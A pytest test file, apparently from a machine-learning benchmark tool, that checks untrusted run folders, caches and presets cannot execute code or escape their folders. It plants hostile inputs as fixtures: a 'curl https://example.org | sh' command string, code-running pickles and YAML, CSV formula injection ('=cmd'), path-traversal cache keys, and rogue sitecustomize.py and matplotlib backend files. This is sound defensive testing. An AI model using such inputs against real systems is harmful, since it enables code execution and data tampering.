"""A run, a cache or a preset from a stranger: nothing in it runs code, or is written through."""

from __future__ import annotations

import contextlib
import csv
import hashlib
import html.parser
import itertools
import json
import os
import pickle
import re
import shutil
import subprocess
import sys
import xml.etree.ElementTree as ET
from collections import Counter
from collections.abc import Callable, Mapping, Sequence
from pathlib import Path

import numpy as np
import pytest
from tests.bench.made_runs import generate
from tests.end_to_end.hostile import (
    HEADERS,
    NAMES,
    PLANTS,
    SECRET,
    Seen,
    assert_orderly,
    in_time,
    outside_of,
    pickled,
    plant,
    resummed,
    snapshot,
    yaml_presets,
)
from tests.end_to_end.program import ROOT, Bench, start, tables

from distillation_bench.bench.planning.plugins import loading as plugins
from distillation_bench.bench.storage import tables as derived
from distillation_bench.bench.storage.cache import Cache, Damaged
from distillation_bench.bench.storage.formats.csv_files import harmless
from distillation_bench.bench.storage.run_folder import Run

every_plant = pytest.mark.parametrize("kind", PLANTS)
Slot = tuple[str, str, int]


class Site:
    """A folder with a run, a cache, a place for what is asked for, and what must stay as it is."""

    def __init__(self, folder: Path, bench: Bench, sound: Path) -> None:
        self.folder = folder
        self.sound = sound
        self.ids = sorted(Run(sound).manifest()["cells"])
        self.run = folder / "run"
        self.cache = folder / "cache"
        self.out = folder / "out"
        self.marker = folder / "ran"
        self.outside = outside_of(folder)
        self.bench = bench

    def renew(self) -> None:
        """A sound run, as if it had just been unpacked."""
        shutil.rmtree(self.run, ignore_errors=True)
        shutil.copytree(self.sound, self.run)

    def plant(self, kind: str, *names: str) -> None:
        """In the places of parts of the run."""
        for name in names:
            plant(kind, self.run / name, self.outside)

    def guarded(self) -> Seen:
        return snapshot(self.folder, self.run, self.cache, self.out)

    def __call__(self, *arguments: str, data: bool = False) -> subprocess.CompletedProcess[str]:
        """Run a command that must be orderly and leave all else as it is."""
        before = self.guarded()
        with in_time():
            done = self.bench(*arguments)
        assert self.guarded() == before, arguments
        assert_orderly(done, data)
        assert SECRET not in done.stdout + done.stderr, arguments
        for path in self.out.rglob("*"):
            assert not path.is_symlink(), arguments
            assert path.is_dir() or SECRET.encode() not in path.read_bytes(), arguments
        return done


FIGURES = {
    ("d", label, seed): {"accuracy": 0.5 + 0.1 * seed + offset, "nll": 0.25 + seed + offset}
    for label, offset in (("kd", 0.0), ("gauss", 0.05), ("hydra", 0.1))
    for seed in range(3)
}
HISTORY = [{"stage": "train", "epoch": epoch, "loss": 1 / (epoch + 1)} for epoch in range(3)]
CURVES = {"fidelity/test": np.ones((2, 5), np.float32)}


@pytest.fixture(scope="module")
def sound(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A run of nine cells with every part."""
    return generate(
        tmp_path_factory.mktemp("sound") / "run",
        FIGURES,
        histories=dict.fromkeys(FIGURES, HISTORY),
        curves=dict.fromkeys(FIGURES, CURVES),
    ).folder


@pytest.fixture
def site(tmp_path: Path, here: Bench, sound: Path) -> Site:
    return Site(tmp_path, here, sound)


READ: Mapping[str, str] = {
    "status": "status run",
    "status --watch": "status run --watch",
    "board": "board run",
    "board --markdown": "board run --markdown",
    "compare": "compare run",
    "compare files": "compare run --csv out/c.csv --json out/c.json --latex out/c.tex",
    "table": "table run",
    "table files": "table run --latex out/t.tex --markdown out/t.md --csv out/t.csv "
    "--macros out/m.tex",
    "plot": "plot run -f training -f fidelity --format svg --out out/figures",
    "report": "report run --no-figures --out out/report.html",
    "why": "why run d kd 0 --cache cache",
    "verify": "verify run --cache cache",
    "export": "export run --out out/e.csv",
    "export parquet": "export run --out out/e.parquet",
    "export curves": "export run --tensorboard out/curves",
    "clean": "clean run --cache cache",
    "merge": "merge run --into out/merged",
}
WRITE = ("clean run --yes", "merge other --into run", "report run --no-figures")


def read_all(site: Site) -> Counter[int]:
    """Every command that reads a run; returns how often each status was."""
    statuses: Counter[int] = Counter()
    site.cache.mkdir(exist_ok=True)
    inside = snapshot(site.run)
    for line in READ.values():
        done = site(*line.split())
        statuses[done.returncode] += 1
        # The lock of a run is made by who holds it.
        assert snapshot(site.run) == inside, line
        shutil.rmtree(site.out, ignore_errors=True)
    return statuses


def write_all(site: Site, attack: Callable[[], None]) -> None:
    """Every command that changes a run, each on one that was attacked anew."""
    shutil.copytree(site.sound, site.folder / "other", dirs_exist_ok=True)
    for line in WRITE:
        site.renew()
        attack()
        site(*line.split())


def test_a_sound_run_is_read_by_every_command(site: Site) -> None:
    site.renew()
    assert read_all(site) == {0: len(READ)}
    write_all(site, lambda: None)


# Something else in a file's place


def test_in_place_of_records(site: Site) -> None:
    def attack() -> None:
        for kind, cell_id in zip(PLANTS, site.ids, strict=True):
            site.plant(kind, f"cells/{cell_id}.json")

    site.renew()
    attack()
    assert read_all(site)[1] == 1, "verify says so"
    write_all(site, attack)


@pytest.mark.parametrize("part", ["", "/history.csv", "/curves.safetensors"])
def test_in_place_of_what_lies_beside_records(site: Site, part: str) -> None:
    def attack() -> None:
        for kind, cell_id in zip(PLANTS, site.ids, strict=True):
            site.plant(kind, f"cells/{cell_id}{part}")

    site.renew()
    attack()
    statuses = read_all(site)
    # Figures are in the records: only merge copies the rest, and refuses; plot has nothing to draw.
    assert statuses[1] == 1 and statuses[2] <= 2
    write_all(site, attack)


@pytest.mark.parametrize("first", [0, 4])
def test_in_place_of_what_is_derived(site: Site, first: int) -> None:
    names = ("results.csv", "metrics.csv", "timings.csv", "derived.json", ".driver", "report.html")
    kinds = list(itertools.islice(itertools.cycle(PLANTS), first, first + len(names)))

    def attack() -> None:
        for kind, name in zip(kinds, names, strict=True):
            site.plant(kind, name)

    site.renew()
    attack()
    # Tables are of the records then.
    assert read_all(site) == {0: len(READ) - 1, 1: 1}
    write_all(site, attack)


@pytest.mark.parametrize("kind", ["link to a folder", "dangling link", "pipe", "terabyte"])
@pytest.mark.parametrize("name", ["run.json", "cells"])
def test_in_place_of_the_run_s_own(site: Site, kind: str, name: str) -> None:
    def attack() -> None:
        site.plant(kind, name)

    site.renew()
    attack()
    statuses = read_all(site)
    assert name == "cells" or not statuses[0]
    write_all(site, attack)


@pytest.mark.parametrize("kind", ["link to a file", "pipe"])
def test_in_place_of_the_lock(site: Site, kind: str) -> None:
    def attack() -> None:
        site.plant(kind, ".lock")

    site.renew()
    attack()
    assert read_all(site) == {0: len(READ)}
    write_all(site, attack)


@every_plant
def test_in_place_of_figures(site: Site, kind: str) -> None:
    for name in ("figures", "figures/training-d.svg"):
        site.renew()
        (site.run / "figures").mkdir()
        site.plant(kind, name)
        done = site("plot", "run", "-f", "training", "--format", "svg")
        drawn = done.returncode == 0
        assert drawn == (kind == "folder" if name == "figures" else kind != "folder")
        assert not drawn or (site.run / "figures/training-d.svg").is_file()


# Names


def named(folder: Path, names: Sequence[str] = NAMES) -> Run:
    """A run in which all that has a name has one of these."""
    # A metric may be asked for as NAME:SCORE@SET.
    metrics = [re.sub("[:@]", ";", name) for name in names]
    labels = {
        (names[0], name, seed): {"nll": 0.1 + place + seed, metric: 0.5}
        for place, (name, metric) in enumerate(zip(names, metrics, strict=True))
        for seed in (0, 1)[: 1 + (place < 3)]
    }
    datasets = {(name, label, 0): {"nll": 0.25} for name in names[::3] for label in names[:2]}
    described = {"better": "lower", "headline": True}
    run = generate(
        folder,
        {**datasets, **labels},
        failed={(names[0], f"{name}!", 0): name for name in names},
        methods={name: name for name in names},
        references=(names[1],),
        metrics={name: {**described, "summary": name, "task": name} for name in metrics},
        ood={names[0]: dict.fromkeys(names, names[0]) | {"plane": f"absent: {names[4]}"}},
        recipe={"members": 2, **dict.fromkeys(names, names[0])},
        parameters={name: dict.fromkeys(names, name) for name in names},
        histories={
            (names[0], name, 0): [{"stage": name, "epoch": 0, **dict.fromkeys(names, 1.0)}]
            for name in names
        },
        command="curl https://example.org | sh",
    )
    for cell_id in run.kept():
        record = run.record(cell_id)
        assert record is not None
        sets = [
            {**each, "set": name, "shift": name} for each in record["sets"][:1] for name in names
        ]
        resummed(
            run.files(cell_id).record,
            sets=[*record["sets"], *sets],
            commit=names[0],
            finished=names[5],
            details="\n".join(names),
            environment={name: name for name in names},
            timings={**record["timings"], "host": names[0], **dict.fromkeys(names, 1.0)},
        )
    derived.write(run)
    return run


@pytest.fixture(scope="module")
def runs_named(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    """The same run under hostile and under harmless names."""
    folder = tmp_path_factory.mktemp("named")
    harmless = [f"name{place}" for place in range(len(NAMES))]
    return named(folder / "hostile").folder, named(folder / "harmless", harmless).folder


@pytest.fixture
def hostile(site: Site, runs_named: tuple[Path, Path]) -> Site:
    """Beside it the harmless one."""
    for name, folder in zip(("run", "harmless"), runs_named, strict=True):
        shutil.copytree(folder, site.folder / name)
    return site


def test_names_steer_nothing_and_lead_nowhere(hostile: Site) -> None:
    hostile.cache.mkdir()
    first = next(iter(Run(hostile.run).manifest()["cells"]))
    for line in READ.values():
        if not line.startswith("plot"):
            assert hostile(*line.replace("d kd 0", first).split()).returncode == 0, line
    for path in hostile.out.rglob("*"):
        assert path.name.isprintable() and len(os.fsencode(path.name)) <= 255
    curves = {path.parts[-4:] for path in (hostile.out / "curves").rglob("events*")}
    assert len(curves) == len(NAMES), "each of its own folder"
    # A stranger's command is not offered.
    said = hostile("why", "run", first).stdout
    assert "unknown how" in said and "curl https://example.org | sh" in said
    assert f"--results {hostile.run.name}" not in said


def test_rows_are_what_was_written_whatever_the_names(hostile: Site) -> None:
    run = Run(hostile.run)
    cells = run.manifest()["cells"].values()
    asked = {(cell["dataset"], cell["label"], cell["seed"]) for cell in cells}
    assert {(r["dataset"], r["label"], int(r["seed"])) for r in derived.results(run)} == asked
    assert {(r[0], r[2], int(r[3])) for r in derived.metrics(run)} <= asked
    (hostile.run / "results.csv").unlink()
    assert {(r["dataset"], r["label"], int(r["seed"])) for r in derived.results(run)} == asked
    for command in ("table run --csv", "export run --out", "compare run --csv"):
        hostile(*command.split(), "out/rows.csv")
        with (hostile.out / "rows.csv").open(newline="", encoding="utf-8") as file:
            rows = list(csv.DictReader(file, strict=True))
        found = {row["dataset"] for row in rows}
        assert found <= {harmless(dataset) for dataset, _, _ in asked} and None not in rows[0]
        # What people open runs no formula; what is read again is as it was.
        values = [value for row in rows for value in row.values()]
        assert not [v for v in values if v.startswith("=")] and any("=cmd" in v for v in values)
    assert "=cmd" in {label[:4] for _, label, _ in asked}


@pytest.mark.parametrize(
    "line", ["export run --out -", "table run --csv -", "compare run --json -"]
)
def test_data_on_a_terminal_steers_nothing(
    hostile: Site, monkeypatch: pytest.MonkeyPatch, line: str
) -> None:
    piped = hostile(*line.split(), data=True).stdout
    monkeypatch.setattr(sys.stdout, "isatty", lambda: True)
    shown = hostile(*line.split()).stdout
    assert shown != piped or "--json" in line
    assert sum(map(str.isalnum, shown)) == sum(map(str.isalnum, piped))


class Elements(html.parser.HTMLParser):
    """What a page is made of, less its text."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.found: Counter[tuple[str, ...]] = Counter()
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        self.found[tag, *(name for name, _ in attributes)] += 1
        for name, value in attributes:
            if name in ("href", "src"):
                assert value and (value.startswith(("#", "data:"))), value


def test_names_are_text_on_the_page(hostile: Site) -> None:
    pages = []
    for run in ("run", "harmless"):
        assert hostile("report", run, "--no-figures", "--out", "out/page.html").returncode == 0
        text = (hostile.out / "page.html").read_text(encoding="utf-8")
        # Where names may be broken, they are: one more element a comma.
        pages.append(Elements(text.replace("<wbr>", "")).found)
    assert pages[0] == pages[1]


COMMAND = re.compile(r"\\(?:[A-Za-z]+|.)")


def test_names_are_text_in_latex(hostile: Site) -> None:
    printed = {rf"\{sign}" for sign in "&%#_{}`'^~=\"\\"} | {r"\i", r"\u", r"\lambda"}
    printed |= {rf"\text{name}" for name in ("backslash", "asciitilde", "asciicircum")}
    printed |= {rf"\text{name}" for name in ("less", "greater", "bar")} | {r"\mathdollar", r"\pm"}
    for command in ("table {} --latex", "table {} --macros", "compare {} --latex"):
        texts = []
        for run in ("run", "harmless"):
            hostile(*command.format(run).split(), "out/t.tex")
            text = (hostile.out / "t.tex").read_text(encoding="ascii")
            texts.append(re.sub(r"(?<!\\)%.*", "", text))
        found, usual = (
            {name for name in COMMAND.findall(text) if not name.startswith(r"\res")}
            for text in texts
        )
        assert found <= usual | printed, command
        # Whole, with no command of TeX's own way to write characters.
        assert "^^" not in texts[0]
        plain = re.sub(r"\\.", "", texts[0])
        assert plain.count("{") == plain.count("}") and plain.count("$") % 2 == 0


def test_names_are_text_in_markdown(hostile: Site) -> None:
    hostile("table", "run", "--markdown", "out/t.md")
    board = hostile("board", "run", "--markdown").stdout
    for text in ((hostile.out / "t.md").read_text(encoding="utf-8"), board):
        assert "script" in text and "javascript" in text
        assert not re.search(r"(?<!\\)<[a-z/]|(?<!\\)\]\(", text)


def test_names_are_drawn(hostile: Site) -> None:
    done = hostile(
        "plot", "run", "-d", NAMES[0], "-f", "training", "--format", "svg", "--out", "out"
    )
    assert done.returncode == 0 and "Glyph" not in done.stderr
    (drawing,) = hostile.out.iterdir()
    elements = {each.tag.rpartition("}")[2] for each in ET.parse(drawing).iter()}
    assert elements <= {
        *("svg", "metadata", "RDF", "Work", "type", "date", "format", "creator"),
        *("Agent", "title", "defs", "style", "g", "path", "use", "clipPath", "rect", "image"),
    }


# Contents, with right sums


def test_pickles_are_files_like_any_other(site: Site) -> None:
    content = pickled(site.marker)
    assert not site.marker.exists()

    def attack() -> None:
        for path in site.run.rglob("*"):
            if path.is_file() and path.name != "run.json":
                path.write_bytes(content)
        Cache(site.cache).write("outputs-d", content, content)

    site.renew()
    attack()
    read_all(site)
    write_all(site, attack)
    assert not site.marker.exists()
    # It would have been made, had anything read it so.
    pickle.loads(content)
    assert site.marker.exists()


@pytest.mark.parametrize("header", HEADERS.values(), ids=HEADERS)
def test_arrays_under_a_hostile_header(site: Site, header: bytes) -> None:
    site.renew()
    first, second, *_ = site.ids
    for cell_id in (first, second):
        (site.run / f"cells/{cell_id}/curves.safetensors").write_bytes(header)
        digest = hashlib.sha256(header).hexdigest() if header else ""
        resummed(site.run / f"cells/{cell_id}.json", curves=digest)
    cache = Cache(site.cache)
    note = {"bytes": len(header), "sha256": hashlib.sha256(header).hexdigest()}
    cache.write("outputs-d", header, json.dumps(note).encode())
    for line in ("verify run --cache cache", "board run", "clean run --cache cache --yes"):
        site(*line.split())
    site("plot", "run", "-f", "fidelity", "--format", "svg", "--out", "out")
    with contextlib.suppress(Damaged):
        # It may be a file of arrays under strange names, of which one is nowhere written.
        assert all(tensor.numel() < 99 for tensor in cache.load("outputs-d").values())


DERIVED = {
    "nothing": b"",
    "another header": b"label\nkd\n",
    "no text": b"\xff\x00\xfe",
    "a row too long": b"%(header)s\n%(row)s,1,2,3\n",
    "a row too short": b"%(header)s\nd,kd\n",
    "words for numbers": b"%(header)s\nd,kd,kd,0,done,many,more\n",
    "a cell that is none": b"%(header)s\nd,kd,kd,77,done,1,1\n",
    "a row twice": b"%(header)s\n%(row)s\n%(row)s\n",
    "a seed that is none": b"%(header)s\nd,kd,kd,zero,done,1,1\n",
    "a field without end": b'%(header)s\nd,"kd,kd,0,done,1,1\n',
    "a field of megabytes": b"%(header)s\nd,kd,kd,0,done,1," + b"1" * 200_000 + b"\n",
}


@pytest.mark.parametrize("content", DERIVED.values(), ids=DERIVED)
def test_tables_that_the_records_do_not_give(site: Site, content: bytes) -> None:
    site.renew()
    run, expected = Run(site.run), derived.results(Run(site.sound))
    sums = json.loads((site.run / "derived.json").read_bytes())
    for name in ("results", "metrics"):
        path = site.run / f"{name}.csv"
        header, row, *_ = path.read_bytes().splitlines()
        made = content.replace(b"%(header)s", header).replace(b"%(row)s", row)
        path.write_bytes(made)
        sums[name] = hashlib.sha256(made).hexdigest()
    (site.run / "derived.json").write_text(json.dumps({**sums, "state": derived._state(run)}))
    with derived._fresh(run, "results") as file:
        assert file is not None, "to all appearance"
    assert derived.results(run) == expected
    assert site("verify", "run").returncode == 1
    for line in ("board run", "table run", "export run --out out/e.csv", "status run"):
        assert site(*line.split()).returncode == 0
    for option in ("--metric ece@test", "--metric nll@test"):
        site("table", "run", *option.split())


def test_half_a_character_is_none(site: Site) -> None:
    for half in (b"\\ud800", b"\\uDFFF", b"\xed\xa0\x80"):
        for name in ("run.json", f"cells/{site.ids[0]}.json"):
            site.renew()
            path = site.run / name
            text = path.read_bytes().replace(b'"d"', b'"' + half + b'd"')
            assert text != path.read_bytes()
            body = text.rpartition(b',"sum":"')[0] + b"}"
            if name != "run.json":
                text = body[:-1] + f',"sum":"{hashlib.sha256(body).hexdigest()[:16]}"}}'.encode()
            path.write_bytes(text)
            for line in (
                "status run",
                "verify run",
                "table run --csv out/t.csv",
                "clean run --yes",
            ):
                site(*line.split())


def test_files_of_strange_names_among_the_cells(site: Site) -> None:
    names = ("...json", "..json", ".json", "\x1b[2J.json", "a\nb.json", "x" * 250 + ".json")
    precious = [site.run / name for name in ("history.csv", "curves.safetensors")]

    def attack() -> None:
        for name in (*map(os.fsencode, names), b"\xff\xfe.json", b"\xff\xfe"):
            (site.run / "cells" / os.fsdecode(name)).write_text(SECRET)
        for path in precious:
            path.write_text("mine")

    site.renew()
    attack()
    assert read_all(site)[2] == 0
    write_all(site, attack)
    site.renew()
    attack()
    site("clean", "run", "--yes")
    assert all(path.read_text() == "mine" for path in precious)


# A cache, presets, plugins


def test_keys_of_a_run_lead_nowhere(site: Site) -> None:
    note = {"members": SECRET, "dataset": SECRET, "seed": SECRET}
    (site.folder / "outside.json").write_text(json.dumps(note))
    for key in ("../outside", str(site.folder / "outside"), "a\0b", "x" * 300, "..", ""):
        site.renew()
        manifest = json.loads((site.run / "run.json").read_bytes())
        for cell in manifest["cells"].values():
            cell["measured"] = key
        Run(site.run).write_manifest(manifest)
        assert "not in cache" in site("why", "run", "d", "kd", "0", "--cache", "cache").stdout


@every_plant
def test_in_place_of_entries_of_a_cache(site: Site, kind: str) -> None:
    site.renew()
    cache = Cache(site.cache)
    keys = ("outputs-a", "weights-b.0", "data-c")
    for key in keys:
        cache.save(key, {"x": np.arange(5.0)}, {"members": 3})
    plant(kind, site.cache / "outputs-a.json", site.outside)
    plant(kind, site.cache / "weights-b.0.safetensors", site.outside)
    assert site("verify", "--cache", "cache").stdout.count("WRONG") == 2
    for key in keys[:2]:
        assert not cache.has(key) and not cache.sound(key)
        with pytest.raises(Damaged):
            cache.load(key)
    assert cache.sound(keys[2])
    for line in ("clean --cache cache", "clean --cache cache --older 1 --yes"):
        site(*line.split())


def test_a_folder_that_is_no_cache_is_not_cleaned(site: Site) -> None:
    (site.folder / "models").mkdir()
    for name in ("config.json", "model.safetensors", "results-2.json", ".x.part"):
        path = site.folder / "models" / name
        path.write_text("mine")
        os.utime(path, (0, 0))
    before = snapshot(site.folder / "models")
    site("clean", "--cache", "models", "--older", "1")
    assert snapshot(site.folder / "models") == before
    done = site.bench("clean", "--cache", "models", "--older", "1", "--yes")
    assert done.returncode == 0
    left = {path.name for path in (site.folder / "models").iterdir()}
    assert left == {"config.json", "model.safetensors", "results-2.json"}


def test_presets_make_no_objects(site: Site) -> None:
    for number, text in enumerate(
        [*yaml_presets(site.marker), pickled(site.marker).decode("latin-1")]
    ):
        path = site.folder / f"p{number}.yaml"
        path.write_text(text, encoding="latin-1")
        done = site("plan", "--preset", path.name)
        assert done.returncode == 2 and path.name in done.stderr, text
    assert not site.marker.exists()


def test_only_plugins_are_code_and_that_is_said(site: Site) -> None:
    site.renew()
    code = f"from pathlib import Path\nPath({str(site.marker)!r}).touch()\n"
    for name in ("plugin.py", "conftest.py", "sitecustomize.py", "matplotlibrc.py", "bench.py"):
        (site.run / name).write_text(code)
    read_all(site)
    assert not site.marker.exists()
    assert site.bench("list", "methods", "--plugin", "run/plugin.py").returncode == 0
    assert site.marker.exists()
    assert "Plugins are code: run those you trust." in (ROOT / "README.md").read_text()
    assert "It is code and is run as such" in " ".join((plugins.__doc__ or "").split())


# Going on with a run


SMALL = (
    *("-m", "kd", "-m", "single", "-d", "spiral", "-s", "0"),
    *("--set", "epochs=2", "--set", "members=2", "--set", "test_examples=60"),
)
RESUME = ("run", *SMALL, "--results", "run", "--cache", "cache")


@pytest.fixture(scope="module")
def trained(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder with a real run of two cells, and its cache."""
    folder = tmp_path_factory.mktemp("trained")
    process = start(*RESUME, "--jobs", "1", folder=folder)
    _, err = process.communicate(timeout=300)
    assert process.returncode == 0, err
    return folder


@pytest.fixture
def resumed(site: Site, trained: Path) -> Site:
    """The real run and its cache, to be attacked."""
    for name in ("run", "cache"):
        shutil.copytree(trained / name, site.folder / name)
    site.ids = sorted(Run(site.run).manifest()["cells"])
    return site


def test_a_run_replaces_links_and_follows_none(resumed: Site, trained: Path) -> None:
    first, second = resumed.ids
    cells = resumed.run / "cells"
    shutil.move(cells / f"{second}.json", resumed.outside / "record")
    (cells / f"{second}.json").symlink_to(resumed.outside / "record")
    (cells / f"{first}.json").unlink()
    resumed.plant("link to a folder", f"cells/{first}")
    names = ("results.csv", "metrics.csv", "timings.csv", "derived.json", ".driver")
    resumed.plant("link to a file", *names)
    assert resumed(*RESUME).returncode == 0
    assert tables(resumed.run) == tables(trained / "run")
    assert not any(path.is_symlink() for path in resumed.run.rglob("*"))
    assert resumed("verify", "run", "--cache", "cache").returncode == 0


def test_a_cell_without_a_history_removes_nothing_elsewhere(resumed: Site) -> None:
    first, _ = resumed.ids
    run = Run(resumed.run)
    record = run.record(first)
    assert record is not None
    resumed.plant("link to a folder", f"cells/{first}")
    before = resumed.guarded()
    run.write_record({**record, "status": "failed", "reason": "r", "headline": {}, "sets": []})
    assert resumed.guarded() == before and run.record(first) is not None


@pytest.mark.parametrize("kind", ["link to a folder", "dangling link", "pipe", "folder"])
def test_a_run_is_refused_before_anything_trains(resumed: Site, trained: Path, kind: str) -> None:
    # A pipe in place of a folder or of a lock is in nobody's way.
    for name in ("run.json", "cells", ".lock") if "link" in kind else ("run.json",):
        shutil.rmtree(resumed.run)
        shutil.copytree(trained / "run", resumed.run)
        resumed.plant(kind, name)
        inside = snapshot(resumed.run)
        for command in (RESUME, ("plan", *RESUME[1:])):
            done = resumed(*command)
            assert done.returncode == (0 if name == ".lock" and command[0] == "plan" else 2)
        assert snapshot(resumed.run) == inside


@pytest.mark.parametrize("kind", ["link to a file", "dangling link", "pipe", "device", "terabyte"])
def test_a_run_makes_again_what_is_no_entry_of_its_cache(
    resumed: Site, trained: Path, kind: str
) -> None:
    shutil.rmtree(resumed.run)
    for path in sorted(resumed.cache.glob("*.safetensors")):
        plant(kind, path, resumed.outside)
    for cell_id in resumed.ids:
        for suffix in ("json", "safetensors"):
            plant(kind, resumed.cache / f"checkpoint-{cell_id}.{suffix}", resumed.outside)
    assert resumed(*RESUME).returncode == 0
    assert tables(resumed.run) == tables(trained / "run")


def test_a_hostile_run_is_gone_on_with(hostile: Site) -> None:
    done = hostile(*RESUME)
    assert done.returncode == 0 and "spiral" in done.stdout
    assert len(Run(hostile.run).manifest()["cells"]) > 2


# What is the user's own


def test_folders_may_be_links_themselves(site: Site, trained: Path, tmp_path: Path) -> None:
    scratch = tmp_path / "scratch"
    for name in ("run", "cache"):
        shutil.copytree(trained / name, scratch / "mine" / name)
    (tmp_path / "mine").symlink_to("scratch/mine")
    (tmp_path / "linked-run").symlink_to("mine/run")
    (tmp_path / "linked-cache").symlink_to("mine/cache")
    expected = tables(trained / "run")
    for run, cache in (("mine/run", "mine/cache"), ("linked-run", "linked-cache")):
        next((scratch / "mine/run/cells").glob("*.json")).unlink()
        for line in (
            f"run {' '.join(SMALL)} --results {run} --cache {cache}",
            f"verify {run} --cache {cache}",
            f"table {run} --csv out/t.csv",
            f"report {run} --no-figures",
            f"plot {run} -f training --format svg",
            f"clean {run} --cache {cache} --yes",
            f"merge {run} --into out/{run}",
        ):
            assert site.bench(*line.split()).returncode == 0, line
        assert tables(scratch / "mine/run") == expected
    assert (tmp_path / "linked-run").is_symlink() and (tmp_path / "mine").is_symlink()
    assert (scratch / "mine/run/report.html").is_file()


# As it is typed


def test_a_report_from_within_a_hostile_run(tmp_path: Path, sound: Path) -> None:
    """In a process of its own, with figures drawn by several, and traps for what Python imports."""
    run, marker, outside = tmp_path / "run", tmp_path / "ran", outside_of(tmp_path)
    shutil.copytree(sound, run)
    code = f"from pathlib import Path\nPath({str(marker)!r}).touch()\n"
    for name in ("sitecustomize", "usercustomize", "matplotlib", "numpy", "evil", "bench", "typer"):
        (run / f"{name}.py").write_text(code)
    (run / "matplotlibrc").write_text("backend: module://evil\ntext.usetex: True\n")
    first, second, *_ = sorted(Run(sound).manifest()["cells"])
    plant("pipe", run / f"cells/{first}/curves.safetensors", outside)
    plant("link to a file", run / f"cells/{second}/history.csv", outside)
    before = snapshot(tmp_path, run)
    process = start("report", ".", folder=run)
    try:
        out, err = process.communicate(timeout=120)
    finally:
        process.kill()
    assert_orderly(subprocess.CompletedProcess("report", process.returncode, out, err))
    assert process.returncode == 0 and (run / "report.html").is_file()
    assert f"{first}/curves.safetensors: damaged" in err and f"{second}/history.csv" in err
    assert snapshot(tmp_path, run) == before and not marker.exists()
